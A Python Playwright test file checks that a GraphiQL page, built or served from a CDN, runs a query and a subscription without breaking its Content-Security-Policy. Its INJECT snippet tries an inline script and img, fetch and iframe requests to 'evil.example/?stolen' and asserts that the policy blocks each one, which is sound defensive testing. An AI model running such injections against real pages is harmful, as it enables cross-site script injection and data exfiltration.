"""GraphiQL lives within its Content-Security-Policy, and the page that is served without a build does too."""

from collections.abc import AsyncIterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.async_api import Page, Route, async_playwright, expect

from services.config import Settings
from tests.browser.conftest import launch
from tests.browser.graphiql_page import SLOW_MS, GraphiQLPage
from tests.browser.hosted import CDN, files_of_the_hosted_page
from tests.browser.watched_page import REPORT_VIOLATIONS
from tests.conftest import LiveServer, serving
from tests.support.api import Api

pytestmark = [
    pytest.mark.attack("cross-site"),
    pytest.mark.timeout(600),
    pytest.mark.parametrize("backend", ["embedded"], indirect=True),
]

MY_TRIPS = "subscription { myTripsUpdated { __typename } }"


async def test_the_build_runs_a_query_and_a_subscription_and_violates_no_policy(graphiql: GraphiQLPage) -> None:
    await graphiql.choose_tab("SignUpRider")
    await graphiql.run()
    await graphiql.shows('"firstName": "Robin"')
    await graphiql.write(MY_TRIPS)
    await graphiql.run()
    await graphiql.shows('"MyTripsSnapshot"')
    assert graphiql.sockets != []
    assert graphiql.errors == []

    # The policy is in force, and its violations are seen.
    assert await graphiql.page.evaluate(INJECT) == ["script-src-elem", "img-src", "connect-src", "frame-src"]


INJECT = """async () => {
    const seen = [];
    const violation = () => new Promise((resolve) => addEventListener("securitypolicyviolation",
        ({ effectiveDirective }) => resolve(effectiveDirective), { once: true }));
    const load = (name, given) => document.body.append(Object.assign(document.createElement(name), given));
    for (const attack of [
        () => load("script", { textContent: "window.hacked = true" }),
        () => load("img", { src: "https://evil.example/?stolen" }),
        () => fetch("https://evil.example/?stolen").catch(() => {}),
        () => load("iframe", { src: "https://evil.example/" }),
    ]) {
        const seeing = violation();
        attack();
        seen.push(await seeing);
    }
    return window.hacked ? "hacked" : seen;
}"""


@pytest.fixture
async def hosted_server(
    settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> AsyncIterator[LiveServer]:
    """A server of a clone in which nobody has built the pages."""
    monkeypatch.setattr("server.WEB_BUILD", tmp_path)
    async with serving(settings) as server:
        yield server


@pytest.fixture(scope="session")
def cdn_files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    """What the CDN has."""
    return files_of_the_hosted_page(tmp_path_factory.mktemp("cdn"))


async def test_the_hosted_page_runs_a_query_and_a_subscription_and_violates_no_policy(
    hosted_server: LiveServer, cdn_files: dict[str, bytes]
) -> None:
    url = hosted_server.url
    errors: list[str] = []

    async def serve(route: Route) -> None:
        kind = "text/css" if route.request.url.endswith(".css") else "text/javascript"
        body = cdn_files[route.request.url]
        await route.fulfill(body=body, content_type=kind, headers={"Access-Control-Allow-Origin": "*"})

    async with async_playwright() as playwright, Api(url) as rider:
        await rider.sign_up("RIDER")
        browser = await launch(playwright, f"EXCLUDE {urlsplit(url).hostname}")
        try:
            page = await browser.new_page()
            page.set_default_timeout(SLOW_MS)
            page.on("console", lambda message: errors.append(message.text) if message.type == "error" else None)
            page.on("pageerror", lambda error: errors.append(str(error)))
            await page.add_init_script(REPORT_VIOLATIONS)
            await page.context.route(f"https://{CDN}/**", serve)
            ((name, value),) = rider.http.cookies.items()
            await page.context.add_cookies([{"name": name, "value": value, "url": url, "sameSite": "Lax"}])
            await page.goto(f"{url}/graphql")
            await run(page, "Me", "query Me { me { role } }", '"RIDER"')
            await run(page, "Mine", MY_TRIPS.replace("{", "Mine {", 1), '"MyTripsSnapshot"')
            assert errors == []
        finally:
            await browser.close()


async def run(page: Page, name: str, operation: str, shows: str) -> None:
    """Type an operation into a new tab of the hosted page, press ▶, and wait for what it shows."""
    await page.get_by_role("button", name="Add tab").click()
    editor = page.locator(".graphiql-query-editor .CodeMirror")
    await expect(editor).to_be_attached(timeout=SLOW_MS)
    await editor.evaluate("(element, text) => element.CodeMirror.setValue(text)", operation)
    # It looks at what was typed a tenth of a second later.
    await expect(page.locator(".graphiql-tab-active .graphiql-tab-button")).to_have_text(name, timeout=SLOW_MS)
    await page.locator(".graphiql-execute-button").click()
    await expect(page.locator(".result-window")).to_contain_text(shows, timeout=SLOW_MS)
